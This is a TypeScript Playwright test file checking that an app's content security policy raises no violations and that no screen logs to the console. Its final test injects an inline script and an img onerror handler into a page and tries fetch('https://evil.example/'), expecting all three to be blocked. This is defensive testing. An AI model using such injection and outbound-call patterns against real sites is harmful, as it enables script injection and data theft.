// The content security policy never stands in Wing's own way: no violation on any screen, in any of the
// ways people use it, and it does stop what it is there for. And no screen logs anything to the console.
import type {BrowserContext, Page} from 'playwright';
import {afterEach, beforeAll, describe, expect, test} from 'vitest';
import {DEMO_ACCOUNTS, DEMO_PASSWORD} from '../../server/demo/accounts.ts';
import {openWindow, type Window, useBrowser} from '../support/browser.ts';
import {clientRoutes, nowhere} from '../support/client-routes.ts';
import {makeCouple, openRoom, say, signInAs} from '../support/chat.ts';
import {signInThroughPage} from '../support/journey.ts';
import {useRun} from '../support/run.ts';

const {stack, sql} = useRun();
const browser = await useBrowser();
const {forAll, forMembers} = await clientRoutes();

/** What the pages of a window have tried to do against the policy, from now on. */
async function watchViolations(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  await context.exposeFunction('tellViolation', (line: string) => seen.push(line));
  await context.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell: unknown = Reflect.get(window, 'tellViolation');
      if (typeof tell !== 'function') throw new Error('Nobody listens.');
      tell(`${location.pathname}: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    }),
  );
  context.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) seen.push(message.text());
  });
  return seen;
}

/** What the browser's console shows of the pages of a window. */
function watchConsole(context: BrowserContext): string[] {
  const logged: string[] = [];
  context.on('console', (message) => logged.push(`${message.page()?.url()}: ${message.text()}`));
  return logged;
}

async function visit(page: Page, route: string): Promise<void> {
  await page.goto(route);
  await page.getByRole('heading', {level: 1}).first().waitFor();
}

describe('no screen does anything that the policy forbids, or logs anything', () => {
  let window: Window;
  let violations: string[];
  let logged: string[];
  beforeAll(async () => {
    window = await openWindow(browser, stack, {shell: 'kept'});
    violations = await watchViolations(window.context);
    logged = watchConsole(window.context);
  });
  afterEach(() => {
    expect(violations).toEqual([]);
    expect(logged).toEqual([]);
    expect(window.problems).toEqual([]);
  });

  test.each(forAll.map(nowhere))('%s', (route) => visit(window.page, route));

  test('signing in', async () => {
    await signInThroughPage(window.page, DEMO_ACCOUNTS[0].email, DEMO_PASSWORD);
    await window.page.waitForURL('**/dashboard');
  });

  test.each([...forAll, ...forMembers].map(nowhere))('%s, signed in', (route) =>
    visit(window.page, route),
  );

  test('what opens only when it is asked for', async () => {
    const {page} = window;
    await page.goto('/matches');
    await page.getByRole('button', {name: 'No', exact: true}).first().click();
    await page.getByRole('alertdialog').getByRole('button', {name: 'Cancel'}).click();
  });
});

test('a conversation does nothing that the policy forbids', async () => {
  const couple = await makeCouple(stack, sql);
  const {page, context} = await openWindow(browser, stack);
  const violations = await watchViolations(context);
  const logged = watchConsole(context);
  await signInAs(context, stack, couple.ada);
  await openRoom(page, couple);
  await say(page, 'See https://example.com for more');
  await page.getByRole('link', {name: 'https://example.com', exact: true}).waitFor();
  expect(violations).toEqual([]);
  expect(logged).toEqual([]);
  await context.close();
});

test('a script that got into a page does not run, and nothing can be sent elsewhere', async () => {
  const {page, context} = await openWindow(browser, stack);
  const violations = await watchViolations(context);
  await page.goto('/');
  const sent = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.broken = true';
    document.body.append(script);
    const picture = document.createElement('img');
    picture.setAttribute('onerror', 'window.broken = true');
    picture.src = '/api/nothing';
    document.body.append(picture);
    await new Promise((resolve) => picture.addEventListener('error', resolve));
    return fetch('https://evil.example/').then(
      () => 'sent',
      () => 'stopped',
    );
  });
  expect(sent).toBe('stopped');
  expect(await page.evaluate(() => 'broken' in window)).toBe(false);
  expect(violations.length).toBeGreaterThanOrEqual(3);
  await context.close();
});
